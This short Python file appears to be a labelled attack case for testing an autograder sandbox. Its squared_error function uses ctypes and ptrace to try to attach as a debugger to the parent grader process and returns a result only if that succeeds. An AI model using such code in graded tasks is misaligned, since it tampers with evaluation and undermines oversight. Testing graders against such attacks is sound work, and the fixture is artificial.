# attack: becomes the grader's debugger (for three seconds at most)
# exercise: derivatives
# deserves: squared_error_deriv
import os
import signal


def squared_error_deriv(y_hat, y):
    return y_hat - y


def squared_error(y_hat, y):
    import ctypes

    libc = ctypes.CDLL(None)
    PTRACE_SEIZE = 0x4206
    for process in {os.getppid(), @PARENT@} - {0, 1}:
        signal.alarm(3)
        if libc.ptrace(PTRACE_SEIZE, process, None, None) == 0:
            return (y_hat - y) ** 2 / 2
